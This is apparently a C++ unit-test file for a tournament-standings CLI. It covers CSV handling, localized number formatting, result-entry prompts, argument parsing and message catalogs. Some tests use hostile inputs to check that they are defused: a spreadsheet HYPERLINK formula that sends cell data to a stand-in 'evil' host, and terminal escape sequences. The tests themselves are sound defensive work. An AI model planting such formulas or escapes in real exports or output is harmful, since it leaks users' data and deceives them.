// The CLI's pure parts: reading CSV, writing CSV and aligned tables, numbers with two decimals
// (for machines, and for people in their language), the command line's options, server
// addresses, result forms built from a game's description, and the cli catalogs themselves.
#include "client/cli/app.hpp"
#include "client/cli/args.hpp"
#include "client/cli/exit_codes.hpp"
#include "client/cli/game_spec.hpp"
#include "client/cli/numbers.hpp"
#include "client/cli/result_form.hpp"
#include "client/cli/say.hpp"
#include "client/cli/session.hpp"
#include "client/cli/standings_view.hpp"
#include "client/cli/text.hpp"
#include "client/cli/text_table.hpp"
#include "i18n/catalog.hpp"
#include "text/csv.hpp"

#include <gtest/gtest.h>
#include <unicode/messagepattern.h>
#include <unicode/plurrule.h>

#include <cstdlib>
#include <set>
#include <sstream>
#include <tuple>

namespace tally::cli {
namespace {

namespace json = boost::json;
using i18n::Lang;
using text::CsvRecord;
using text::parse_csv;

// A Failure's message as an English reader sees it.
std::string english(const Failure& f) { return say(Lang::en, f.message()); }

std::vector<std::vector<std::string>> fields_of(const std::vector<text::CsvRecord>& records) {
  std::vector<std::vector<std::string>> out;
  for (const auto& r : records) out.push_back(r.fields);
  return out;
}

TEST(Csv, QuotedFieldsWithCommasQuotesAndLineBreaks) {
  std::string text =
      "\xEF\xBB\xBFid,name\r\n"
      "a,\"Novák, Jan\"\r\n"
      "b,\"Anna \"\"Ája\"\" Dvořáková\"\n"
      "\n"
      "c,\"two\nlines\"\n"
      "d,\n";
  auto records = text::parse_csv(text);
  EXPECT_EQ(fields_of(records),
            (std::vector<std::vector<std::string>>{{"id", "name"},
                                                   {"a", "Novák, Jan"},
                                                   {"b", "Anna \"Ája\" Dvořáková"},
                                                   {"c", "two\nlines"},
                                                   {"d", ""}}));
  std::vector<int> lines;
  for (const auto& r : records) lines.push_back(r.line);
  EXPECT_EQ(lines, (std::vector<int>{1, 2, 3, 5, 7}));
}

TEST(Csv, RefusesBrokenQuotingAndNonUtf8) {
  EXPECT_THROW(text::parse_csv("id,name\na,\"open\n"), std::invalid_argument);
  EXPECT_THROW(text::parse_csv("id,name\na,\"x\"y\n"), std::invalid_argument);
  EXPECT_THROW(text::parse_csv("id,name\na,\xC3\x28\n"), std::invalid_argument);
  EXPECT_THROW(text::parse_csv("id,name\na,\xC0\xAF\n"), std::invalid_argument);  // overlong '/'
}

TEST(Csv, WritesWhatItReads) {
  std::vector<std::string> fields = {"1", "Novák, Jan", "say \"hi\"", "two\nlines", " pad", ""};
  std::string line = csv_line(fields);
  EXPECT_EQ(line, "1,\"Novák, Jan\",\"say \"\"hi\"\"\",\"two\nlines\",\" pad\",\n");
  EXPECT_EQ(fields_of(text::parse_csv(line)), (std::vector<std::vector<std::string>>{fields}));
}

TEST(Csv, APersonsTextNeverBecomesAFormula) {
  // OWASP "CSV Injection": a leading =, +, -, @, tab or CR makes a spreadsheet evaluate a cell.
  EXPECT_EQ(csv_text("=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")"),
            "'=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")");
  for (const char* cell : {"+1", "-2+3", "@SUM(A1)", "\tx", "\rx"}) {
    EXPECT_EQ(csv_text(cell), std::string("'") + cell) << cell;
  }
  EXPECT_EQ(csv_text("Jana Nováková"), "Jana Nováková");
  EXPECT_EQ(csv_text(""), "");
  // Quoted as any other cell afterwards: the formula's comma stays inside its cell.
  EXPECT_EQ(csv_line({csv_text("=1,2")}), "\"'=1,2\"\n");
}

TEST(Printable, NothingReceivedCanDriveTheTerminal) {
  const std::string kBad = "\xEF\xBF\xBD";
  // Erase the line above, retitle the window, ring the bell, go back over the text.
  EXPECT_EQ(printable("ok\x1b[1A\x1b[2Kgone"), "ok" + kBad + "[1A" + kBad + "[2Kgone");
  EXPECT_EQ(printable("\x1b]0;pwned\x07"), kBad + "]0;pwned" + kBad);
  EXPECT_EQ(printable("a\rb\bc\nd\te"), "a" + kBad + "b" + kBad + "c" + kBad + "d" + kBad + "e");
  EXPECT_EQ(printable(std::string("nul\0end", 7)), "nul" + kBad + "end");
  // C1 controls (U+009B is a one-character CSI) and DEL, the bidirectional overrides.
  EXPECT_EQ(printable("x\xC2\x9By\x7F"), "x" + kBad + "y" + kBad);
  EXPECT_EQ(printable("\xE2\x80\xAE"
                      "evil"),
            kBad + "evil");
  // Broken UTF-8 is shown byte by byte as "�"; real text is untouched.
  EXPECT_EQ(printable("\xC3"), kBad);
  EXPECT_EQ(printable("Jana Nováková — Ярослав"), "Jana Nováková — Ярослав");
}

TEST(Numbers, TwoDecimalsFromTheExactFraction) {
  auto r = [](const char* exact, double value) {
    return json::value(json::object{{"value", value}, {"exact", exact}});
  };
  EXPECT_EQ(two_decimals(r("5/2", 2.5)), "2.50");
  EXPECT_EQ(two_decimals(r("10/3", 3.3333)), "3.33");
  EXPECT_EQ(two_decimals(r("11/4", 2.75)), "2.75");
  EXPECT_EQ(two_decimals(r("20/3", 6.6667)), "6.67");
  EXPECT_EQ(two_decimals(r("1/200", 0.005)), "0.01");  // half away from zero
  EXPECT_EQ(two_decimals(r("-1/200", -0.005)), "-0.01");
  EXPECT_EQ(two_decimals(r("-1/1000", -0.001)), "0.00");
  EXPECT_EQ(two_decimals(r("7", 7)), "7.00");
  EXPECT_EQ(two_decimals(json::value(12)), "12.00");
  EXPECT_EQ(percent(r("60/143", 0.41958)), "41.96");
  EXPECT_EQ(percent(r("1/3", 0.3333)), "33.33");
  EXPECT_EQ(percent(r("2/3", 0.6667)), "66.67");
  // Too large for 128-bit arithmetic: the display value is used.
  EXPECT_EQ(percent(r("1/300000000000000000000000000000000000000000", 0.5)), "50.00");
  EXPECT_EQ(cell_text(json::value(nullptr)), "-");
  EXPECT_EQ(cell_text(json::value(true)), "true");  // machine text: the same in every language
  EXPECT_EQ(cell_text(json::array{"A", "B"}), "A, B");
}

TEST(Numbers, ForPeopleInTheirLanguage) {
  auto r = [](const char* exact, double value) {
    return json::value(json::object{{"value", value}, {"exact", exact}});
  };
  // Czech and Italian write a decimal comma; the rounding is still the exact fraction's.
  EXPECT_EQ(shown_two_decimals(Lang::en, r("5/2", 2.5)), "2.50");
  EXPECT_EQ(shown_two_decimals(Lang::cs, r("5/2", 2.5)), "2,50");
  EXPECT_EQ(shown_two_decimals(Lang::it, r("5/2", 2.5)), "2,50");
  EXPECT_EQ(shown_two_decimals(Lang::ru, r("5/2", 2.5)), "2,50");
  EXPECT_EQ(shown_two_decimals(Lang::cs, r("1/200", 0.005)), "0,01");  // half away from zero
  EXPECT_EQ(shown_two_decimals(Lang::cs, r("20/3", 6.6667)), "6,67");
  EXPECT_EQ(shown_two_decimals(Lang::en, json::value(12)), "12.00");
  EXPECT_EQ(shown_percent(Lang::en, r("60/143", 0.41958)), "41.96%");
  EXPECT_EQ(shown_percent(Lang::cs, r("60/143", 0.41958)), "41,96 %");
  EXPECT_EQ(shown_percent(Lang::it, r("5/14", 0.357)), "35,71%");
  EXPECT_EQ(shown_percent(Lang::ru, r("5/14", 0.357)), "35,71 %");
  // Too large for 128-bit arithmetic: the display value is used.
  EXPECT_EQ(shown_percent(Lang::cs, r("1/300000000000000000000000000000000000000000", 0.5)),
            "50,00 %");
  EXPECT_EQ(shown(Lang::en, json::value(true)), "yes");
  EXPECT_EQ(shown(Lang::cs, json::value(true)), "ano");
  EXPECT_EQ(shown(Lang::ru, json::value(false)), "нет");
  EXPECT_EQ(shown(Lang::it, r("3/2", 1.5)), "1,50");
  EXPECT_EQ(shown(Lang::cs, json::value(7)), "7");
  EXPECT_EQ(shown(Lang::cs, json::value(nullptr)), "-");
}

TEST(TextTable, AlignsByDisplayWidth) {
  EXPECT_EQ(display_width("Čeněk"), 5u);
  EXPECT_EQ(display_width("C\u030Ceněk"), 5u);  // a combining caron takes no column
  EXPECT_EQ(display_width("日本"), 4u);
  TextTable table({{"#", TextTable::Align::right}, {"Name"}, {"Pts", TextTable::Align::right}});
  table.add_row({"1", "Čeněk", "10.00"});
  table.add_row({"10", "Jo", "2.50"});
  std::ostringstream out;
  table.print(out, "> ");
  EXPECT_EQ(out.str(),
            ">  #  Name     Pts\n"
            "> --  -----  -----\n"
            ">  1  Čeněk  10.00\n"
            "> 10  Jo      2.50\n");
}

TEST(Standings, AGoTRoundsWithTheDroppedResultInParenthesesAndTheConqueror) {
  auto row = [](int rank, const char* id, const char* name, int r1, bool r1_dropped, int r2,
                bool r2_dropped, int total) {
    return json::object{
        {"rank", rank},
        {"player", id},
        {"name", name},
        {"games", 2},
        {"results",
         json::array{json::object{{"round", 1}, {"points", r1}, {"dropped", r1_dropped}},
                     json::object{{"round", 2}, {"points", r2}, {"dropped", r2_dropped}}}},
        {"total", total},
        {"wins", 1},
        {"next_league", nullptr}};
  };
  json::object standings{{"rows", json::array{row(1, "p6", "Lord 6", 1, true, 16, false, 16),
                                              row(2, "p1", "Čeněk", 15, false, 1, true, 15)}},
                         {"conqueror", json::array{"p1"}}};
  std::ostringstream table;
  print_standings(table, standings, Lang::en);
  EXPECT_EQ(table.str(),
            "#  Name    ID  Games   R1   R2  Total  Wins  Next league\n"
            "-  ------  --  -----  ---  ---  -----  ----  -----------\n"
            "1  Lord 6  p6      2  (1)   16     16     1  -\n"
            "2  Čeněk   p1      2   15  (1)     15     1  -\n"
            "Conqueror: Čeněk\n"
            "(a result in parentheses is dropped from the total)\n");
  EXPECT_EQ(standings_csv(standings),
            "rank,player,name,games,r1,r2,dropped_rounds,total,wins,next_league,conqueror\n"
            "1,p6,Lord 6,2,1,16,1,16,1,,false\n"
            "2,p1,Čeněk,2,15,1,2,15,1,,true\n");
  // A name (or id) that a spreadsheet would run as a formula is written as text.
  json::object hostile{
      {"rows", json::array{row(1, "-p6", "=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")", 1, true,
                               16, false, 16)}}};
  EXPECT_EQ(standings_csv(hostile),
            "rank,player,name,games,r1,r2,dropped_rounds,total,wins,next_league\n"
            "1,'-p6,\"'=HYPERLINK(\"\"http://evil/?x=\"\"&A1,\"\"click\"\")\",2,1,16,1,16,1,\n");

  // The same standings in Czech: the headings and notes; the CSV does not change.
  std::ostringstream czech;
  print_standings(czech, standings, Lang::cs);
  EXPECT_EQ(czech.str(),
            "#  Jméno   ID  Hry   K1   K2  Celkem  Výhry  Další liga\n"
            "-  ------  --  ---  ---  ---  ------  -----  ----------\n"
            "1  Lord 6  p6    2  (1)   16      16      1  -\n"
            "2  Čeněk   p1    2   15  (1)      15      1  -\n"
            "Dobyvatel: Čeněk\n"
            "(výsledek v závorce se do součtu nepočítá)\n");

  // Nothing dropped: no footnote.
  standings["rows"].as_array().resize(1);
  standings["rows"].as_array()[0].as_object()["results"].as_array()[0].as_object()["dropped"] =
      false;
  std::ostringstream plain;
  print_standings(plain, standings, Lang::en);
  EXPECT_EQ(plain.str().find("parentheses"), std::string::npos) << plain.str();
}

// --- result forms from a game's description (GET /v1/games) -----------------------------------

// A game no version of the CLI has heard of: everything the form does must come from here.
const char* kDuelGames = R"([
  {"game":"duel","actions":{
     "result":{"type":"duel_result","per_player":true,"fields":[
       {"name":"banner","type":"choice","required":true,"label":"duel.banner","text":"banner",
        "choices":["Azure","Gules","Vert"]},
       {"name":"rank","type":"integer","required":true,"label":"duel.rank","text":"rank",
        "min":1,"max":2},
       {"name":"hits","type":"integer","required":true,"label":"duel.hits","text":"hits landed",
        "min":3},
       {"name":"taken","type":"choices","required":true,"label":"duel.taken",
        "text":"banners taken","choices":["Azure","Gules","Vert"],"excludes_own":"banner"},
       {"name":"first_blood","type":"boolean","required":true,"label":"duel.first_blood",
        "text":"First Blood","one_holder":true},
       {"name":"yielded","type":"boolean","required":false,"label":"duel.yielded",
        "text":"yielded"},
       {"name":"bonus","type":"integer","required":false,"label":"duel.bonus","text":"bonus"},
       {"name":"victor","type":"boolean","required":true,"label":"duel.victor","text":"victor",
        "derived":{"from":"rank","equals":1}}]},
     "salutes":{"type":"salute","per_player":false,"fields":[
       {"name":"player","type":"player","required":true,"label":"duel.player","text":"player"}]}},
   "rules":[{"name":"rounds","type":"integer","default":3}]}
])";

ActionSpec duel_result() {
  std::vector<GameSpec> games = parse_games(json::parse(kDuelGames));
  EXPECT_EQ(games.size(), 1u);
  const ActionSpec* result = games.at(0).action("result");
  EXPECT_NE(result, nullptr);
  EXPECT_NE(games.at(0).action("salutes"), nullptr);
  EXPECT_EQ(games.at(0).rules.size(), 1u);
  return *result;
}

TEST(ResultForm, ReadsTheDescription) {
  ActionSpec form = duel_result();
  EXPECT_TRUE(form.per_player);
  EXPECT_EQ(form.field_names(), "banner, rank, hits, taken, first_blood, yielded, bonus, victor");
  EXPECT_EQ(range_hint(Lang::en, *form.field("rank")), "1–2");
  EXPECT_EQ(range_hint(Lang::en, *form.field("hits")), "3 or more");
  EXPECT_EQ(range_hint(Lang::en, *form.field("bonus")), "");
  EXPECT_EQ(range_hint(Lang::cs, *form.field("hits")), "3 a víc");
  EXPECT_EQ(range_hint(Lang::it, *form.field("hits")), "3 o più");
  EXPECT_EQ(range_hint(Lang::ru, *form.field("hits")), "3 или больше");
  EXPECT_TRUE(form.field("first_blood")->one_holder);
  EXPECT_FALSE(form.field("yielded")->required);
  EXPECT_EQ(form.field("victor")->derived_from, "rank");
  EXPECT_EQ(form.field("taken")->excludes_own, "banner");
  EXPECT_THROW(parse_games(json::parse(R"({"game":"x"})")), Failure);
}

TEST(ResultForm, PromptsAreBuiltFromTheDescription) {
  ActionSpec form = duel_result();
  TournamentInfo info;
  info.players = {{"x", "Xena"}, {"y", "Yorick"}};
  json::object table{{"players", json::array{"x", "y"}}};
  // x: banner, rank 3 (out of range: asked again) then 1, hits, taken (gules, her own banner,
  // is not offered: asked again), yielded, bonus skipped; y: the same; then who drew first blood.
  std::istringstream in(
      "gules\n3\n1\n4\ngules\nazure\n\n\n"
      "VERT\n2\n3\n\ny\n7\n"
      "y\n");
  std::ostringstream prompts;
  Prompter ask(in, prompts, false, Lang::en);
  json::array players = players_from_prompts(ask, prompts, form, table, info);
  EXPECT_EQ(json::serialize(players),
            R"([{"player":"x","banner":"Gules","rank":1,"hits":4,"taken":["Azure"],"victor":true,)"
            R"("first_blood":false},)"
            R"({"player":"y","banner":"Vert","rank":2,"hits":3,"taken":[],"yielded":true,)"
            R"("bonus":7,"victor":false,"first_blood":true}])");
  const std::string text = prompts.str();
  EXPECT_NE(text.find("Xena (x)\n  banner (Azure/Gules/Vert): "), std::string::npos) << text;
  EXPECT_NE(text.find("  rank (1–2): \n  1–2, please\n  rank (1–2): "), std::string::npos) << text;
  EXPECT_NE(text.find("  hits landed (3 or more): "), std::string::npos) << text;
  EXPECT_NE(text.find("  banners taken (among Azure, Vert; joined with +, Enter for none): "),
            std::string::npos)
      << text;
  EXPECT_NE(text.find("  among Azure, Vert, joined with + or commas\n"), std::string::npos) << text;
  EXPECT_NE(text.find("  yielded? [y/N]: "), std::string::npos) << text;
  EXPECT_NE(text.find("  bonus (Enter to skip): "), std::string::npos) << text;
  EXPECT_NE(text.find("Who holds First Blood? (x/y/none) [none]: "), std::string::npos) << text;
  EXPECT_EQ(text.find("victor"), std::string::npos) << text;  // derived: never asked

  // Asked again with that entry as the defaults: Enter keeps every answer.
  std::istringstream again(std::string(16, '\n'));
  std::ostringstream shown;
  Prompter ask_again(again, shown, false, Lang::en);
  json::array same = players_from_prompts(ask_again, shown, form, table, info, &players);
  EXPECT_EQ(same, players);
  EXPECT_NE(shown.str().find("  banner (Azure/Gules/Vert) [Gules]: "), std::string::npos)
      << shown.str();
  EXPECT_NE(shown.str().find("Who holds First Blood? (x/y/none) [y]: "), std::string::npos)
      << shown.str();
}

TEST(ResultForm, FlagsAreCheckedAgainstTheDescription) {
  ActionSpec form = duel_result();
  json::array players =
      players_from_flags({"x:banner=azure,rank=1,hits=5,taken=gules+VERT,first_blood",
                          "y:banner=Vert,rank=2,hits=3,yielded=no"},
                         &form, "duel");
  EXPECT_EQ(json::serialize(players),
            R"([{"player":"x","banner":"Azure","rank":1,"hits":5,"taken":["Gules","Vert"],)"
            R"("first_blood":true,"victor":true},)"
            R"({"player":"y","banner":"Vert","rank":2,"hits":3,"yielded":false,"victor":false,)"
            R"("taken":[],"first_blood":false}])");

  auto message = [&](const std::string& spec) {
    try {
      players_from_flags({spec}, &form, "duel");
      return std::string("accepted");
    } catch (const Failure& f) {
      EXPECT_EQ(f.code(), kUsage);
      return english(f);
    }
  };
  EXPECT_EQ(message("x:castles=3"),
            "--player x: duel has no field \"castles\" (fields: banner, rank, hits, taken, "
            "first_blood, yielded, bonus, victor)");
  EXPECT_EQ(message("x:banner=stark"),
            "--player x: banner must be one of Azure, Gules, Vert, not \"stark\"");
  EXPECT_EQ(message("x:taken=azure+or"),
            "--player x: taken must be values among Azure, Gules, Vert, joined with +, not "
            "\"azure+or\"");
  EXPECT_EQ(message("x:rank=first"), "--player x: rank must be a whole number, not \"first\"");
  // Ranges are the server's to check: a rank of 9 is sent as it is.
  EXPECT_EQ(message("x:rank=9"), "accepted");

  // Without a description (a server that has none for the game): values as JSON or text.
  json::array loose = players_from_flags({"x:score=12,name=Ann,ok"}, nullptr, "duel");
  EXPECT_EQ(json::serialize(loose), R"([{"player":"x","score":12,"name":"Ann","ok":true}])");
}

TEST(ResultForm, PromptsInTheUsersLanguage) {
  ActionSpec form = duel_result();
  TournamentInfo info;
  info.players = {{"x", "Xena"}, {"y", "Yorick"}};
  json::object table{{"players", json::array{"x", "y"}}};
  // Czech: yes is "a"/"ano" (y still works), nobody is "nikdo"; the labels are the server's.
  std::istringstream in(
      "azure\n1\n4\n\nano\n\n"
      "vert\n2\nfive\n3\n\nn\n\n"
      "nikdo\n");
  std::ostringstream prompts;
  Prompter ask(in, prompts, false, Lang::cs);
  json::array players = players_from_prompts(ask, prompts, form, table, info);
  EXPECT_EQ(json::serialize(players),
            R"([{"player":"x","banner":"Azure","rank":1,"hits":4,"taken":[],"yielded":true,)"
            R"("victor":true,"first_blood":false},)"
            R"({"player":"y","banner":"Vert","rank":2,"hits":3,"taken":[],"victor":false,)"
            R"("first_blood":false}])");
  const std::string text = prompts.str();
  EXPECT_NE(text.find("  hits landed (3 a víc): "), std::string::npos) << text;
  EXPECT_NE(text.find("  „five“ není celé číslo\n"), std::string::npos) << text;
  EXPECT_NE(text.find("  banners taken (z Gules, Vert; spojte znakem +, Enter = žádné): "),
            std::string::npos)
      << text;
  EXPECT_NE(text.find("  yielded? [a/N]: "), std::string::npos) << text;
  EXPECT_NE(text.find("  bonus (Enter přeskočí): "), std::string::npos) << text;
  EXPECT_NE(text.find("Kdo má First Blood? (x/y/nikdo) [nikdo]: "), std::string::npos) << text;

  // Russian yes and no, in any case; English y/n work in every language.
  for (const char* yes : {"да", "Да", "Д", "y", "YES"}) {
    std::istringstream answer(std::string(yes) + "\n");
    std::ostringstream shown;
    EXPECT_TRUE(Prompter(answer, shown, false, Lang::ru).yes_no("?", false)) << yes;
    EXPECT_EQ(shown.str(), "? [д/Н]: \n");
  }
  for (const char* no : {"нет", "Н", "n"}) {
    std::istringstream answer(std::string(no) + "\n");
    std::ostringstream shown;
    EXPECT_FALSE(Prompter(answer, shown, false, Lang::ru).yes_no("?", true)) << no;
  }
  std::istringstream italian("sì\n");
  std::ostringstream ignored;
  EXPECT_TRUE(Prompter(italian, ignored, false, Lang::it).yes_no("?", false));
}

TEST(ResultForm, FlagErrorsInEveryLanguage) {
  ActionSpec form = duel_result();
  try {
    players_from_flags({"x:rank=first"}, &form, "duel");
    ADD_FAILURE() << "accepted";
  } catch (const Failure& f) {
    EXPECT_EQ(say(Lang::cs, f.message()), "--player x: rank musí být celé číslo, ne „first“");
    EXPECT_EQ(say(Lang::it, f.message()),
              "--player x: rank deve essere un numero intero, non «first»");
    EXPECT_EQ(say(Lang::ru, f.message()),
              "--player x: rank должно быть целым числом, а не «first»");
  }
}

TEST(Args, OptionsFlagsAndPositionals) {
  std::vector<OptionSpec> specs = {{"reason", 0, "TEXT", ""},
                                   {"player", 0, "SPEC", "", true},
                                   {"yes", 'y', "", ""},
                                   {"tournament", 't', "ID", ""}};
  Args args = parse_args({"1", "--reason=typo", "-t", "brno", "--player", "a:x=1", "-y", "--player",
                          "b:x=2", "-5", "--", "--not-an-option"},
                         specs);
  EXPECT_EQ(args.positionals, (std::vector<std::string>{"1", "-5", "--not-an-option"}));
  EXPECT_EQ(args.value("reason"), "typo");
  EXPECT_EQ(args.value("tournament"), "brno");
  EXPECT_TRUE(args.has("yes"));
  EXPECT_EQ(args.values("player"), (std::vector<std::string>{"a:x=1", "b:x=2"}));

  auto code = [&](const std::vector<std::string>& tokens) {
    try {
      parse_args(tokens, specs);
      return -1;
    } catch (const Failure& f) {
      return static_cast<int>(f.code());
    }
  };
  EXPECT_EQ(code({"--bogus"}), kUsage);
  EXPECT_EQ(code({"--reason"}), kUsage);
  EXPECT_EQ(code({"--reason", "a", "--reason", "b"}), kUsage);
  EXPECT_EQ(code({"--yes=1"}), kUsage);
}

TEST(Args, ErrorsNameTheOptionInTheUsersLanguage) {
  std::vector<OptionSpec> specs = {{"reason", 0, "TEXT", ""}};
  try {
    parse_args({"--bogus"}, specs);
    ADD_FAILURE() << "accepted";
  } catch (const Failure& f) {
    EXPECT_EQ(english(f), "unknown option --bogus");
    EXPECT_EQ(say(Lang::cs, f.message()), "neznámá volba --bogus");
    EXPECT_EQ(say(Lang::ru, f.message()), "неизвестный параметр --bogus");
  }
}

// The help and usage errors in the language --lang names, wherever it is on the line.
TEST(Language, TheLangOptionChoosesTheLanguageOfHelpAndErrors) {
  auto run = [](const std::vector<std::string>& args) {
    std::istringstream in;
    std::ostringstream out, err;
    int code = run_cli(args, in, out, err, false, false);
    return std::make_tuple(code, out.str(), err.str());
  };
  auto [code, out, err] = run({"--lang", "cs", "--help"});
  EXPECT_EQ(code, kOk);
  EXPECT_EQ(out.rfind("Použití: tally PŘÍKAZ [argumenty] [volby]\n", 0), 0u) << out;
  EXPECT_NE(out.find("\nPříkazy:\n"), std::string::npos) << out;
  EXPECT_NE(out.find("  standings          Ukázat celkové pořadí, nyní nebo jak bylo\n"),
            std::string::npos)
      << out;
  EXPECT_NE(out.find("--lang LANG"), std::string::npos) << out;

  std::tie(code, out, err) = run({"standings", "--help", "--lang=it"});
  EXPECT_EQ(code, kOk);
  EXPECT_EQ(out.rfind("Uso: tally standings [--as-of SEQ] [--json | --csv]\n\n"
                      "Mostra la classifica, ora o com’era\n",
                      0),
            0u)
      << out;
  EXPECT_NE(out.find("\nOpzioni:\n"), std::string::npos) << out;

  std::tie(code, out, err) = run({"result", "enter", "1", "--lang", "ru"});
  EXPECT_EQ(code, kUsage);
  EXPECT_EQ(err,
            "tally: не хватает аргументов\n"
            "Использование: tally result enter ROUND TABLE [--file FILE | --player SPEC...] "
            "[--yes | --check] [--keep-offline]\n"
            "Подробнее: `tally result enter --help`.\n");

  // A language tallyd does not speak: a usage error, in the environment's language.
  const char* saved = std::getenv("LC_ALL");
  std::string before = saved != nullptr ? saved : "";
  ::setenv("LC_ALL", "ru_RU.UTF-8", 1);
  std::tie(code, out, err) = run({"--lang", "de", "--help"});
  if (saved != nullptr) {
    ::setenv("LC_ALL", before.c_str(), 1);
  } else {
    ::unsetenv("LC_ALL");
  }
  EXPECT_EQ(code, kUsage);
  EXPECT_EQ(err, "tally: --lang должен быть cs, it, ru или en, а не «de»\n");
}

// Every cli key in every language: a pattern ICU compiles, with the same arguments as the
// English one, plural forms for every category the language has, and nothing missing.
TEST(Catalogs, EveryCliMessageInEveryLanguage) {
  const auto& catalogs = i18n::Catalogs::builtin();
  auto cli_keys = [&](Lang lang) {
    std::set<std::string> keys;
    for (const auto& k : catalogs.keys(lang)) {
      if (k.rfind("cli.", 0) == 0) keys.insert(k);
    }
    return keys;
  };
  // The argument names of a pattern, and the plural categories it spells out.
  struct Shape {
    std::set<std::string> args;
    std::set<std::string> plural_arguments;
    std::vector<std::set<std::string>> plural_forms;
  };
  auto shape = [](const std::string& text, const std::string& where) {
    Shape out;
    UErrorCode status = U_ZERO_ERROR;
    UParseError parse{};
    icu::UnicodeString pattern = icu::UnicodeString::fromUTF8(text);
    icu::MessagePattern parsed(pattern, &parse, status);
    EXPECT_TRUE(U_SUCCESS(status)) << where << ": " << u_errorName(status) << " in " << text;
    if (U_FAILURE(status)) return out;
    for (int32_t i = 0; i < parsed.countParts(); ++i) {
      const auto& part = parsed.getPart(i);
      if (part.getType() == UMSGPAT_PART_TYPE_ARG_NAME) {
        std::string name;
        parsed.getSubstring(part).toUTF8String(name);
        out.args.insert(name);
      }
      if (part.getType() == UMSGPAT_PART_TYPE_ARG_START &&
          part.getArgType() == UMSGPAT_ARG_TYPE_PLURAL) {
        std::set<std::string> forms;
        int32_t limit = parsed.getLimitPartIndex(i);
        for (int32_t j = i + 2; j < limit; ++j) {
          const auto& p = parsed.getPart(j);
          if (p.getType() == UMSGPAT_PART_TYPE_ARG_SELECTOR) {
            std::string form;
            parsed.getSubstring(p).toUTF8String(form);
            forms.insert(form);
          }
          if (p.getType() == UMSGPAT_PART_TYPE_MSG_START) j = parsed.getLimitPartIndex(j);
        }
        out.plural_forms.push_back(forms);
      }
    }
    return out;
  };
  const std::set<std::string> english = cli_keys(Lang::en);
  EXPECT_GT(english.size(), 300u);
  for (Lang lang : i18n::kLanguages) {
    std::string code(i18n::code(lang));
    EXPECT_EQ(cli_keys(lang), english) << code;
    UErrorCode status = U_ZERO_ERROR;
    std::unique_ptr<icu::PluralRules> rules(
        icu::PluralRules::forLocale(icu::Locale(code.c_str()), status));
    ASSERT_TRUE(U_SUCCESS(status)) << code;
    for (const auto& key : english) {
      const std::string* text = catalogs.pattern(lang, key);
      if (text == nullptr) continue;
      Shape mine = shape(*text, code + " " + key);
      Shape theirs = shape(*catalogs.pattern(Lang::en, key), "en " + key);
      EXPECT_EQ(mine.args, theirs.args) << code << " " << key;
      // Integer counts: every category the language uses for whole numbers must be written.
      for (const auto& forms : mine.plural_forms) {
        for (int n = 0; n <= 200; ++n) {
          icu::UnicodeString category = rules->select(n);
          std::string name;
          category.toUTF8String(name);
          bool exact = forms.count("=" + std::to_string(n)) > 0;
          EXPECT_TRUE(exact || forms.count(name) > 0)
              << code << " " << key << ": no \"" << name << "\" form (for " << n << ")";
        }
      }
    }
  }
}

TEST(ServerUrl, Forms) {
  EXPECT_EQ(parse_server_url("http://127.0.0.1:8080").url, "http://127.0.0.1:8080");
  EXPECT_EQ(parse_server_url("http://venue.local/").url, "http://venue.local:80");
  EXPECT_EQ(parse_server_url("localhost:9000").port, 9000);
  EXPECT_EQ(parse_server_url("http://[::1]:8080").host, "::1");
  EXPECT_EQ(parse_server_url("http://[::1]:8080").url, "http://[::1]:8080");
  EXPECT_TRUE(parse_server_url("https://venue.example").tls);
  EXPECT_EQ(parse_server_url("https://venue.example").url, "https://venue.example:443");
  EXPECT_EQ(parse_server_url("https://127.0.0.1:8443").port, 8443);
  EXPECT_FALSE(parse_server_url("http://127.0.0.1:8443").tls);
  for (const char* bad : {"https://x:0", "http://x:0", "http://x:70000", "http://x/path",
                          "http://user@x:1", "ftp://x", ""}) {
    EXPECT_THROW(parse_server_url(bad), Failure) << bad;
  }
}

TEST(ExitCodes, FromStatuses) {
  EXPECT_EQ(exit_code_for_status(422), kInvalid);
  EXPECT_EQ(exit_code_for_status(400), kInvalid);
  EXPECT_EQ(exit_code_for_status(412), kConflict);
  EXPECT_EQ(exit_code_for_status(409), kConflict);
  EXPECT_EQ(exit_code_for_status(428), kConflict);
  EXPECT_EQ(exit_code_for_status(401), kAuth);
  EXPECT_EQ(exit_code_for_status(403), kAuth);
  EXPECT_EQ(exit_code_for_status(404), kNotFound);
  EXPECT_EQ(exit_code_for_status(503), kUnavailable);
  EXPECT_EQ(exit_code_for_status(429), kUnavailable);
}

}  // namespace
}  // namespace tally::cli
